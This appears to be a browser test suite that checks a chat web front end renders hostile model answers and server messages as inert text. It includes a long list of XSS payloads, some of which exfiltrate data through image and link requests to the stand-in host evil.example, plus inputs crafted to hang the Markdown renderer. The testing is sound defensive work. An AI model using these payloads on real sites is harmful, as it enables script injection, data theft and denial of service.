// What a model writes is never run, loaded or sent anywhere, whatever it writes.
import assert from "node:assert/strict";
import { test } from "node:test";

import { answered, ask, lists, noBrowser, openPage, refuses, says, trouble, world } from "./support.mjs";

const all = world();
const settings = { skip: noBrowser };

const SAMPLES = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "text <img src='https://evil.example/leak?q=1'> text",
  "![alt](https://evil.example/leak.png)",
  "![alt][r]\n\n[r]: https://evil.example/leak.png \"t\"",
  "[![alt](https://evil.example/i.png)](javascript:alert(1))",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=a autofocus onfocus=alert(1)><button>Send</button></form>",
  "<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video>",
  "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html,<script>alert(1)</script>)",
  "[click](&#106;avascript:alert(1)) [click](javascript&colon;alert(1)) [click](java\u0000script:alert(1))",
  "<javascript:alert(1)> <vbscript:x> [x]: javascript:alert(1)\n\n[x]",
  '[a](https://example.org/"onmouseover="alert(1)) [b](<https://example.org/" onclick="alert(1)> "t\\" onclick=\\"alert(1)")',
  "```\"><img/src=x/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
  "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
  "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <b onclick=alert(1)>x</b> | y |",
  "# <img src=x onerror=alert(1)>\n\n1. <script>alert(1)</script>\n\n> <iframe src=javascript:alert(1)>",
  "</div></article></main><script>alert(1)</script><!-- --!><img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} __proto__ [x](__proto__) [y][__proto__]\n\n[__proto__]: x",
];

/** Elements and attributes that no answer may bring into the page. */
function intruders() {
  const thread = document.querySelector(".thread");
  const found = [...thread.querySelectorAll("script,img,iframe,object,embed,style,link,base,meta,form,input,video,audio,math,animate")];
  for (const element of thread.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      if (/^on|^style$|^src|^srcdoc$|^action$/.test(name)) found.push(element);
    }
  }
  const links = [...thread.querySelectorAll("a")].map(({ href }) => href).filter((href) => !/^(https?|mailto):/.test(href));
  return [...found.map((element) => element.outerHTML), ...links];
}

test("hostile answers are text", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  for (const sample of SAMPLES) {
    all.front.on["POST /v1/chat/completions"] = says(sample, { size: 5 });
    await ask(page, sample); // the question is shown too, and is the title of the first conversation
    await answered(page);
    assert.deepEqual(await page.evaluate(intruders), [], sample);
  }
  const shown = await page.locator(".thread").innerText();
  assert.match(shown, /<script>alert\(1\)<\/script>/, "it is there to be read");
  for (const link of await page.locator(".answer a").all()) await link.hover();
  await page.reload();
  await page.locator(".entry").first().click();
  assert.equal(await page.locator(".answer").count(), SAMPLES.length);
  assert.deepEqual(await page.evaluate(intruders), []);
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});

test("hostile names and messages of the server are text", settings, async () => {
  const bad = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
  all.front.on["GET /v1/models"] = lists({ id: bad, status: "not ready", reason: bad });
  all.front.on["POST /v1/chat/completions"] = refuses(503, bad, { "retry-after": "1" });
  const page = await openPage(all.browser, all.front.url);
  await ask(page, "Hello");
  await page.getByRole("alert").getByText("onerror=alert(1)").waitFor();
  assert.deepEqual(await page.evaluate(intruders), []);
  assert.equal(await page.locator("img").count(), 0);
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});

test("the browser itself refuses what would make HTML, or load and send elsewhere", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const refused = await page.evaluate(async () => {
    const tries = {
      html: () => (document.createElement("div").innerHTML = "<b>x</b>"),
      script: () => (document.createElement("script").textContent = "alert(1)"),
      elsewhere: () => fetch("https://evil.example/"),
    };
    const results = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
      } catch {
        results.push(name);
      }
    }
    const image = new Image();
    const failed = new Promise((resolve) => (image.onerror = resolve));
    image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";
    await failed;
    return results;
  });
  assert.deepEqual(refused, ["html", "script", "elsewhere"]);
  await page.context().close();
});

test("answers made to hold up the page do not", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const samples = {
    quotes: ">".repeat(20_000),
    lists: `${"- ".repeat(5000)}x`,
    numbers: `${"1. ".repeat(5000)}x`,
    brackets: `${"[".repeat(5000)}x`,
    images: `${"![".repeat(5000)}x`,
    stars: `${"*a ".repeat(5000)}`,
    underscores: `${"_a_".repeat(5000)}*`,
    code: "`".repeat(9999),
    tags: "<a ".repeat(9999),
    long: "word ".repeat(120_000),
    lines: Array.from({ length: 60 }, (_, level) => `${"  ".repeat(level)}- level ${level}`).join("\n"),
    json: `\`\`\`json\n${"[".repeat(20_000)}\n\`\`\``,
  };
  for (const [name, text] of Object.entries(samples)) {
    all.front.on["POST /v1/chat/completions"] = says(text, { size: 40_000 });
    await ask(page, name);
    const started = Date.now();
    await answered(page);
    if (process.env.PAGE_TIMES) console.log(name, Date.now() - started, "ms");
    await page.getByRole("button", { name: "New conversation" }).click();
  }
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});
